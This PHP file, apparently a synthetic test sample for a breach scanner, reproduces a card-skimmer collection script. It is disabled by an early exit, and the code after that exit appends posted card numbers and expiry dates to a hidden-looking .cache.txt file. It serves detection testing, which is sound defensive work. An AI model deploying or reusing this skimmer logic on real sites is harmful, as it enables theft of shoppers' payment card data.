<?php
// synthetic test sample for breachscan: card collection gate shape - a script the front-end
// skimmer posts to, appending the posted card number to a text file. Disabled by the early
// exit; no real card data.
exit;
$fh = fopen(__DIR__ . '/.cache.txt', 'a');
fwrite($fh, date('c') . ' ' . $_REQUEST['ccnum'] . ' ' . $_REQUEST['exp'] . "\n");
fclose($fh);
